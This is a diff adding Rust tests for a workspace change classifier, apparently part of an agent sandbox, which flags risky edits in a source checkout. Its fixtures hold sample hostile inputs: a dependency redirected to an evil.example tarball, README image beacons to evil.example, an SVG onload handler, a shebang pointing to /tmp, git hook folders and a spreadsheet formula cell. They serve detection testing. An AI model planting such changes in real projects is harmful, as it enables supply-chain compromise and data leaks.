@@ -1,0 +1,198 @@
+//! The facts of changes in a directory: what ordinary work says, and what is new to the directory in kind.
+
+use std::path::Path;
+
+use chaperone_protocol::session::{Mode, MountRecord};
+
+use super::*;
+
+struct Directory {
+    folder: tempfile::TempDir,
+    mount: LiveMount,
+}
+
+impl Directory {
+    /// A source checkout with these files.
+    fn new(files: &[(&str, &str)]) -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        let source = folder.path().join("w");
+        for (name, text) in files {
+            write(&source.join(name), text);
+        }
+        std::fs::create_dir_all(&source).unwrap();
+        let root = File::open(&source).unwrap().into();
+        let record = MountRecord {
+            at: "/workspace".into(),
+            prefix: String::new(),
+            source,
+            mode: Mode::Mediated,
+            actions: Vec::new(),
+            stage_dir: folder.path().join("stage"),
+        };
+        Self { mount: LiveMount::closed(record, root), folder }
+    }
+
+    fn facts(&self, op: Op, path: &str, content: &[u8]) -> Map<String, Value> {
+        self.of(&change(op, Kind::File, path), Some(content))
+    }
+
+    fn of(&self, change: &Change, content: Option<&[u8]>) -> Map<String, Value> {
+        let at = self.folder.path().join("content");
+        let file = content.map(|bytes| {
+            std::fs::write(&at, bytes).unwrap();
+            File::open(&at).unwrap()
+        });
+        let mut about = Map::new();
+        let brings = BTreeSet::new();
+        let head = content.map(|bytes| bytes.get(..HEAD).unwrap_or(bytes)).unwrap_or_default();
+        let looked = Looked { mount: &self.mount, change, content: file.as_ref(), head, brings: &brings };
+        add(&mut about, &looked);
+        about
+    }
+}
+
+fn write(at: &Path, text: &str) {
+    std::fs::create_dir_all(at.parent().unwrap()).unwrap();
+    std::fs::write(at, text).unwrap();
+}
+
+fn change(op: Op, kind: Kind, path: &str) -> Change {
+    Change {
+        path: path.into(),
+        op,
+        from: None,
+        kind,
+        blob: None,
+        target: None,
+        base: None,
+        replaces: None,
+        mode: 0o644,
+        mtime_ns: 0,
+        size: 0,
+    }
+}
+
+const CHECKOUT: &[(&str, &str)] = &[
+    (".git/config", "[core]\n"),
+    ("package.json", r#"{"dependencies":{"a":"1"},"homepage":"https://a.example"}"#),
+    ("README.md", "![x](https://badges.example/a.svg)\n"),
+    ("tool.sh", "#!/bin/sh\necho\n"),
+    ("pkg/m.py", "print(1)\n"),
+];
+
+#[test]
+fn what_is_ordinary_in_a_checkout_says_nothing_new() {
+    let directory = Directory::new(CHECKOUT);
+    for (path, content) in [
+        ("package.json", r#"{"dependencies":{"a":"2","b":"1"},"homepage":"https://a.example"}"#),
+        ("packages/x/package.json", r#"{"name":"x","dependencies":{"a":"1"}}"#),
+        ("docs/a.md", "![x](https://badges.example/b.svg)\n![y](images/b.png)\n"),
+        ("tool.sh", "#!/bin/sh\necho more\n"),
+        ("src/new.rs", "fn main() {}\n"),
+        (".gitignore", "target\n"),
+        (".prettierrc", "{\"semi\": false}\n"),
+        ("data/table.csv", "a,b\n1,-2\n"),
+    ] {
+        let facts = directory.facts(Op::Create, path, content.as_bytes());
+        assert_eq!(facts["in_checkout"], true, "{path}");
+        for quiet in ["new_sources", "remote_hosts", "active_content", "formula_cells"] {
+            assert!(facts.get(quiet).is_none_or(|v| v == 0), "{path}: {facts:?}");
+        }
+        let classes = facts["runs_later"].as_array().unwrap();
+        assert!(
+            classes.is_empty() || classes == &["build"] && facts["kind_known"] == true,
+            "{path}: {facts:?}"
+        );
+        assert!(facts["compiled"].is_null() && facts.get("workbook_refusal").is_none(), "{path}");
+        assert!(facts.get("shebang_changed").is_none_or(|v| v == false), "{path}");
+    }
+    let cache =
+        directory.facts(Op::Create, "pkg/__pycache__/m.cpython-312.pyc", b"\xa7\x0d\r\n\0\0\0\0........");
+    assert_eq!(cache["compiled"], "cache");
+}
+
+#[test]
+fn what_is_new_to_a_checkout_in_kind_is_said() {
+    let directory = Directory::new(CHECKOUT);
+    let of = |path: &str, content: &str| directory.facts(Op::Modify, path, content.as_bytes());
+    assert_eq!(
+        of("package.json", r#"{"dependencies":{"a":"https://evil.example/a.tgz"}}"#)["new_sources"],
+        1
+    );
+    assert_eq!(of("Makefile", "all:\n")["kind_known"], false);
+    assert_eq!(of("tool.sh", "#!/tmp/x\necho\n")["shebang_changed"], true);
+    assert_eq!(of("README.md", "![x](https://evil.example/?d=1)\n")["remote_hosts"], 1);
+    assert_eq!(of(".husky/pre-commit", "x\n")["runs_later"], json!(["hooks"]));
+    assert_eq!(of("a.svg", "<svg onload='x()'/>")["active_content"], 1);
+    let link = change(Op::Create, Kind::Symlink, ".vscode");
+    assert_eq!(directory.of(&link, None)["runs_later"], json!(["editor"]));
+}
+
+#[test]
+fn a_folder_is_no_checkout_by_what_an_agent_may_commit() {
+    let directory = Directory::new(&[(".git/HEAD", "ref: x\n"), (".git/objects/ab/cd", "x")]);
+    assert_eq!(directory.facts(Op::Create, "Makefile", b"all:\n")["in_checkout"], false);
+}
+
+#[test]
+fn a_file_that_gets_another_name_is_looked_at_under_it() {
+    let directory = Directory::new(&[
+        ("a.txt", "<img src=https://evil.example/p>"),
+        ("b.html", "<img src=https://known.example/p>"),
+        ("c.txt", "a,=1+1\n"),
+        ("d.txt", "![x](https://evil.example/p)"),
+    ]);
+    let moved = |from: &str, to: &str| {
+        directory.of(&Change { from: Some(from.into()), ..change(Op::Rename, Kind::File, to) }, None)
+    };
+    assert_eq!(moved("a.txt", "a.md")["remote_content"], 0, "a browser takes the text for a page as it is");
+    assert_eq!(moved("d.txt", "d.md")["remote_content"], 1);
+    assert_eq!(moved("b.html", "c.html")["remote_content"], 0);
+    assert_eq!(moved("c.txt", "c.csv")["formula_cells"], 1);
+    let mut folder = change(Op::Rename, Kind::Dir, ".husky");
+    folder.from = Some("plain".into());
+    assert_eq!(directory.of(&folder, None)["runs_later"], json!(["hooks"]));
+}
+
+#[test]
+fn documents_of_word_are_no_workbooks() {
+    let zip = zip_of(&[("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")]);
+    let directory = Directory::new(&[]);
+    let facts = directory.facts(Op::Create, "letter.docx", &zip);
+    assert!(facts.get("workbook_refusal").is_none(), "{facts:?}");
+    assert_eq!(facts["cannot_look"], false);
+}
+
+/// A stored archive by hand: the crate has no library for it.
+fn zip_of(parts: &[(&str, &str)]) -> Vec<u8> {
+    let (mut bytes, mut list) = (Vec::new(), Vec::new());
+    for (name, text) in parts {
+        let at = bytes.len() as u32;
+        let mut header = Vec::new();
+        for field in [20u16, 0, 0, 0, 0] {
+            header.extend(field.to_le_bytes());
+        }
+        header.extend(crc(text.as_bytes()).to_le_bytes());
+        header.extend((text.len() as u32).to_le_bytes().repeat(2));
+        header.extend((name.len() as u16).to_le_bytes());
+        header.extend(0u16.to_le_bytes());
+        bytes.extend(b"PK\x03\x04".iter().chain(&header).chain(name.as_bytes()).chain(text.as_bytes()));
+        list.extend(b"PK\x01\x02\x14\0".iter().chain(&header));
+        list.extend([0; 10]);
+        list.extend(at.to_le_bytes());
+        list.extend(name.as_bytes());
+    }
+    let (at, count) = (bytes.len() as u32, (parts.len() as u16).to_le_bytes());
+    let size = (list.len() as u32).to_le_bytes();
+    bytes.extend(list);
+    bytes.extend(
+        b"PK\x05\x06\0\0\0\0".iter().chain(&count).chain(&count).chain(&size).chain(&at.to_le_bytes()),
+    );
+    bytes.extend([0, 0]);
+    bytes
+}
+
+fn crc(bytes: &[u8]) -> u32 {
+    let step = |c: u32| if c & 1 == 1 { 0xedb8_8320 ^ (c >> 1) } else { c >> 1 };
+    !bytes.iter().fold(u32::MAX, |c, b| (0..8).fold(c ^ u32::from(*b), |c, _| step(c)))
+}
